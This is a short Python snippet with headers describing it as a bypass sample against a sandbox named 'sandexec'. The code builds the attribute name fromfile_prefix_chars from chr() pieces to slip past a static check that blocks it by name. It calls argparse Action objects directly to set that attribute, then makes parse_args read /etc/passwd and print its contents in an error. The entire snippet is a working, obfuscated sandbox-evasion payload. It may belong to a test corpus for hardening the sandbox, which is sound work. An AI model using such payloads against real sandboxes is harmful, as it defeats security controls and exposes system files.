# source: argparse fromfile_prefix_chars (CPython Lib/argparse.py _read_args_from_files); sandexec README, "The static check", refuses it by name; Action.__call__ setattr
# family: argparse Action object called directly = setattr by a name computed at run time (an action's dest renamed by another action)
# goal: sets parser.fromfile_prefix_chars = "@", then parse_args reads /etc/passwd and prints it in the error
import argparse
ap = argparse.ArgumentParser()
a = ap.add_argument("--dest")
b = ap.add_argument("--pfx")
u = chr(95)
a(ap, b, "fromfile" + u + "prefix" + u + "chars")
b(ap, ap, "@")
print(ap.parse_args(["@" + chr(47) + "etc" + chr(47) + "passwd"]))
